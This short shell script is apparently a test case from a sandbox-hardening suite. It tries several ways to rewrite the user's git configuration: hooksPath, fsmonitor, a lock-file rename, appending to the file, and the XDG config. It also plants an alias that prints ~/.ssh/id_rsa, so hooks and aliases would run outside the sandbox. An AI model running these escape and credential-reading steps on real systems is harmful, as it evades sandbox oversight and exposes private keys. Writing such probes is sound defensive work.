# technique: rewrite ~/.gitconfig without a deny_args rule: git config --global (lock file, rename), --file, --unset, direct append, and the XDG file (core.hooksPath, aliases run by the user's git outside the sandbox)
# fast: yes
git config --global core.hooksPath "$PWD/hooks"; echo "hooksPath: $?"
git config --global alias.st '!sh -c "cat ~/.ssh/id_rsa"'; echo "alias: $?"
git config --file ~/.gitconfig core.fsmonitor "$PWD/fsmon"; echo "--file: $?"
git config --global --unset user.name; echo "unset: $?"
printf '[core]\n\thooksPath = /tmp\n' > ~/.gitconfig.lock && mv ~/.gitconfig.lock ~/.gitconfig; echo "lock+mv: $?"
printf '[alias]\n\tx = !id\n' >> ~/.gitconfig; echo "append: $?"
mkdir -p ~/.config/git 2>/dev/null; git config --file ~/.config/git/config core.hooksPath /tmp; echo "xdg: $?"
cat ~/.gitconfig
